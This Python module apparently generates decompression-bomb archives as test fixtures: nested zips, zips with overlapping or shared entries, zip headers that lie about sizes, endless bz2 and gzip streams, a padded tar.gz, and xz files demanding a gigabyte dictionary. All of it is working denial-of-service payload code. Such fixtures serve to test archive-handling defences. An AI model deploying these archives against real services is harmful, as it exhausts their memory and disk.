"""Archives that cost more to look into than to send: nested, flat, overlapping, lying about sizes."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

import files

_MB = 1 << 20


def nested(depth, method=zipfile.ZIP_DEFLATED, inside=b"x" * 1000):
    """Zips in zips, two in each, until they are two megabytes."""
    for i in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", method) as z:
            for k in range(2):
                z.writestr(f"{i}-{k}.zip", inside)
        inside = made.getvalue()
        if len(inside) > 2 * _MB:
            break
    return inside


def _local(name, crc, packed, size):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, packed, size, len(name), 0) + name


def _directory(entries, start):
    """entries: (name, crc, packed size, size, offset)"""
    made = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, packed, size, len(name), 0, 0, 0, 0, 0, at) + name
        for name, crc, packed, size, at in entries)
    return made + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(made), start, 0)


def _kernel(size):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(size)) + packer.flush()


def one_for_all(n, size, last=b""):
    """n names in the directory for one and the same compressed file; `last` is one more at the end."""
    packed, crc = _kernel(size), zlib.crc32(bytes(size))
    names = [b"%04d" % i for i in range(n)] + ([last] if last else [])
    local = _local(b"a", crc, len(packed), size) + packed
    return local + _directory([(name, crc, len(packed), size, 0) for name in names], len(local))


def overlapping(n, size, last=b""):
    """n files, each of which holds the headers of all behind it and the one compressed file that all share
    (D. Fifield, A better zip bomb, 2019); the innermost is named `last`."""
    data, content = _kernel(size), bytes(size)
    crc, length = zlib.crc32(content), size
    entries, made = [], b""
    for i in range(n):
        name = last if i == 0 and last else b"%04d" % i
        header = _local(name, crc, len(data), length)
        entries.insert(0, [name, crc, len(data), length, len(header) + len(data)])
        made = header + data
        quoted = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        content = header + content
        data, crc, length = quoted + data, zlib.crc32(content), length + len(header)
    return made + _directory([(name, c, p, s, len(made) - at) for name, c, p, s, at in entries], len(made))


def lying(content):
    """A zip that claims its one file to be of four gigabytes, packed and unpacked."""
    made = bytearray(files.zipped(("a.txt", content)))
    for magic, at in ((b"PK\x03\x04", 18), (b"PK\x01\x02", 20)):
        start = made.index(magic) + at
        made[start:start + 8] = b"\xfe\xff\xff\xff\xfe\xff\xff\xff"
    return bytes(made)


def flat_bz2(gigabytes):
    """Zeros without end: bzip2 streams, one behind the other; a hundred kilobytes are 128 gigabytes."""
    return bz2.compress(bytes(64 * _MB)) * (gigabytes * 16)


def flat_gz(gigabytes):
    return gzip.compress(bytes(64 * _MB), mtime=0) * (gigabytes * 16)


def flat_tar_gz(gigabytes, last):
    """A tar whose first file is zeros without end; a file named `last` stands behind it."""
    made = io.BytesIO()
    size = gigabytes * 1024 * _MB
    with tarfile.open(fileobj=made, mode="w") as t:
        info = tarfile.TarInfo("zeros")
        info.size = size
        t.addfile(tarfile.TarInfo(last))
        behind = made.getvalue()
        head = info.tobuf(tarfile.GNU_FORMAT)
    return gzip.compress(head, mtime=0) + flat_gz(gigabytes) + gzip.compress(behind + bytes(1024), mtime=0)


def large_dictionary(layers=1):
    """xz that asks its reader for a gigabyte before the first byte; in `layers`, each in the next."""
    made = b"harmless"
    for _ in range(layers):
        packed = bytearray(lzma.compress(made, format=lzma.FORMAT_XZ, preset=0))
        head = slice(12, 12 + (packed[12] + 1) * 4)  # of the block: its filters, padding, a sum
        at = packed.index(b"\x21\x01", head.start) + 2
        packed[at] = 36  # 1 GiB
        packed[head.stop - 4:head.stop] = struct.pack("<I", zlib.crc32(packed[head.start:head.stop - 4]))
        made = bytes(packed)
    return made
